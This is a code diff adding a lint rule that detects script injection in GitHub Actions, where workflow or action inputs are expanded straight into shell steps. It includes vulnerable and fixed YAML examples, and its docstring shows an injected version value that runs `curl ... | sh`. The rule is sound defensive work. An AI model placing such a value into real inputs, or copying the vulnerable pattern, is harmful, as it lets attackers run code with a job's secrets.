@@ -1,0 +1,83 @@
+from collections.abc import Iterator
+
+from aurora_devops import Finding, bad, good, policy
+from aurora_devops.kinds.github import Expression
+from aurora_devops.kinds.github.untrusted import flowing, is_code, is_input, is_written_outside, sources
+
+
+@policy(
+    "GHA076",
+    severity="warning",
+    category="security",
+    equivalents={"zizmor": "template-injection"},
+    examples=[
+        bad(
+            """\
+            on:
+              workflow_dispatch:
+                inputs:
+                  version:
+                    type: string
+            jobs:
+              release:
+                runs-on: ubuntu-24.04
+                steps:
+                  - run: make release VERSION="${{ «inputs.version» }}"
+            """
+        ),
+        bad(
+            """\
+            name: Greet
+            description: Greets
+            inputs:
+              who:
+                description: whom
+            runs:
+              using: composite
+              steps:
+                - run: echo "${{ «inputs.who» }}"
+                  shell: bash
+            """,
+            kind="github-action",
+        ),
+        good(
+            """\
+            on:
+              workflow_dispatch:
+                inputs:
+                  version:
+                    type: string
+                  level:
+                    type: choice
+                    options: [minor, major]
+            jobs:
+              release:
+                runs-on: ubuntu-24.04
+                steps:
+                  - run: make release VERSION="$VERSION" LEVEL=${{ inputs.level }}
+                    env:
+                      VERSION: ${{ inputs.version }}
+            """,
+            because="a choice has a closed set of values, and the shell quotes the variable",
+        ),
+    ],
+)
+def input_in_script(expression: Expression) -> Iterator[Finding]:
+    """An input or a value of the event is expanded into a script before it runs.
+
+    The caller decides the value: `1"; curl https://example.com/x | sh; "` as a version runs commands with the
+    token and the secrets of the job, and a quote in a harmless value breaks the script.
+    Pass the value in an environment variable and quote that.
+    Inputs of the types `boolean`, `number`, `choice` and `environment` are not reported.
+
+    https://docs.github.com/en/actions/concepts/security/script-injections
+    """
+    if not is_code(expression) or expression.tree is None:
+        return
+    for way, tree in flowing(expression.tree):
+        ends = list(sources(expression, way))
+        if any(map(is_written_outside, ends)) or not any(is_input(expression, end) for end in ends):
+            continue
+        said = expression.text[tree.start : tree.end]
+        message = f"'{said}' is expanded into the script; pass it in an environment variable"
+        yield Finding(at=expression.part(tree.start, tree.end), message=message)
